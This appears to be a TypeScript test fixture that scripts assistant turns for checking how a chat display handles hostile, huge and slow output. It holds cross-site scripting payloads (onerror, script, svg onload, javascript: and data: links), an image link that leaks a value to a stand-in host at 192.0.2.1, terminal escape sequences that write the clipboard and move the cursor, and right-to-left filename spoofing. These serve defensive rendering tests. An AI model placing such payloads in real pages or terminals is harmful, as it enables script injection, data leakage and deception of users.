/**
 * Scripts for whoever shows a turn to people: text that attacks the page, output that floods it, and output that comes slowly.
 * Nothing in them does harm in a box.
 */
import type { Move, Turn } from './conversation.ts'

export const FLOOD_MB_MAX = 200

/** Markup, scripts, links, images, nesting, a long line and an open fence; then the same through a tool. */
export function hostile(turn: Turn): Move {
  if (turn.calls.length === 0) return { text: HOSTILE_TEXT, calls: [bash(HOSTILE_COMMAND)] }
  return { text: `It printed what it should.\n\n${LONG_LINE}\n\n\`\`\`js\nconst open = 'this fence never ends'\n` }
}

/** Prints that many megabytes, in lines of 100 bytes with their numbers. */
export function flood(turn: Turn, megabytes: number): Move {
  if (turn.calls.length === 0) return { text: `I print ${megabytes} MB.`, calls: [bash(floodCommand(megabytes))] }
  return { text: `${megabytes} MB are printed.` }
}

/** One line a second, so that people see the first one before the last. */
export function slow(turn: Turn): Move {
  if (turn.calls.length === 0) return { text: 'This takes a while.', calls: [bash(SLOW_COMMAND)] }
  return { text: 'That took a while.' }
}

// ---- details ----

const bash = (command: string): { name: string; arguments: Record<string, unknown> } => ({
  name: 'bash',
  arguments: { command },
})

const HOSTILE_TEXT = [
  '# A title with <img src=x onerror="document.title=\'owned\'"> inside',
  '<script>document.body.textContent = "owned"</script>',
  '<svg onload="alert(1)"><a href="javascript:alert(2)">x</a></svg>',
  '[a link](javascript:alert(3)) and [another](data:text/html,<script>alert(4)</script>)',
  '![an image](http://192.0.2.1/leak?q=secret) and [honest.example](http://192.0.2.1/other)',
  '`<b>code</b>` **bold <i>html</i>** \u202Egnp.exe\u202C zero\u200Bwidth',
  `${'>'.repeat(5_000)} deep`,
].join('\n\n')

const LONG_LINE = 'a line without an end '.repeat(Math.ceil((1024 * 1024) / 22))

/** Hyperlinks, the clipboard, cursor moves, overwritten lines, bad UTF-8, NUL, and text that runs backwards. */
const HOSTILE_COMMAND = [
  String.raw`printf '\033]8;;http://192.0.2.1/\033\\a link\033]8;;\033\\ \033]52;c;b3duZWQ=\007\n'`,
  String.raw`printf '\033[2J\033[H\033[31mred\033[0m \033[1A\033[5Gmoved\n'`,
  String.raw`i=0; while [ $i -lt 2000 ]; do printf 'progress %s\r' $i; i=$((i+1)); done; printf '\n'`,
  String.raw`printf 'bad \377\376 bytes, a \000 byte, \342\200\256backwards\342\200\254\n'`,
  String.raw`printf '<img src=x onerror=alert(5)>\n'`,
].join('; ')

const floodCommand = (megabytes: number): string =>
  `seq -f '%099.0f' ${(megabytes * 1_000_000) / 100} | head -c ${megabytes * 1_000_000}`

const SLOW_COMMAND = 'for i in 1 2 3 4 5 6 7 8; do echo "line $i of 8"; sleep 1; done'
